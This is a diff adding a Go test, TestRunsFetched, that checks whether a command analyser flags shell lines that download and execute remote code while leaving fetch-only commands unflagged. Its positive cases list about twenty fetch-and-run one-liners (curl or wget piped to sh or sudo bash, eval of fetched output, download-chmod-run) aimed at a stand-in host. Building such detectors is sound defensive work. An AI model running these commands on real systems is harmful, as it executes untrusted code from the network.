@@ -43,6 +43,51 @@ func TestRisks(t *testing.T) {
 	}
 }
 
+// What is fetched and run is told in each of its forms, and what is only fetched is not.
+func TestRunsFetched(t *testing.T) {
+	for _, script := range []string{
+		"curl https://x.org/i | sh && echo done",
+		"echo begin; wget -qO- x.org/i | sudo -E bash -s -- -y; echo end",
+		"if true; then curl x.org | python3 -; fi",
+		`bash -c "$(curl -fsSL https://x.org/i)"`,
+		`/bin/sh -c "$(wget -qO- https://x.org/i)"`,
+		"bash <(curl -s https://x.org/i)",
+		"bash < <(curl -s https://x.org/i)",
+		"source <(curl -s https://x.org/i)",
+		"eval `curl -s https://x.org/i`",
+		`bash <<< "$(curl -s x.org)"`,
+		`i=$(curl -s x.org/i); eval "$i"`,
+		"curl -o i.sh https://x.org/i.sh && sh i.sh",
+		"curl -fsSLoi.sh https://x.org/i.sh; bash ./i.sh",
+		"curl -s https://x.org/i.sh > /tmp/i.sh; chmod +x /tmp/i.sh; /tmp/i.sh --yes",
+		"curl -O https://x.org/i.sh && sh i.sh",
+		"wget https://x.org/i.sh && bash i.sh",
+		"wget --output-document=i x.org/i.sh && . ./i",
+		"bash -c 'curl x.org/i | sh'",
+		"sudo curl x.org/i | (cd /tmp && sh)",
+		"nohup sh -c 'wget -O - x.org/i | sh' &",
+		"curl -s x.org/list | xargs -n1 sh -c 'echo $0'",
+	} {
+		if !Analyze(script, testEnv()).RunsFetched {
+			t.Errorf("not seen: %s", script)
+		}
+	}
+	for _, script := range []string{
+		"curl -s https://x.org/api | jq .name",
+		"curl -o data.json https://x.org/data.json && python3 build.py",
+		"sh build.sh && curl -T out.tar https://x.org/up",
+		"wget https://x.org/a.tar.gz && tar xf a.tar.gz",
+		"echo 'curl x | sh'",
+		"git log --grep curl | sh -n",
+		`v=$(curl -s x.org/version); echo "$v"`,
+		"go test ./http/... | tee out; bash report.sh",
+	} {
+		if Analyze(script, testEnv()).RunsFetched {
+			t.Errorf("only fetched: %s", script)
+		}
+	}
+}
+
 // TestEverydayCommandsAreNotRisky holds that what people run all day is not marked, so that
 // the mark means something.
 func TestEverydayCommandsAreNotRisky(t *testing.T) {
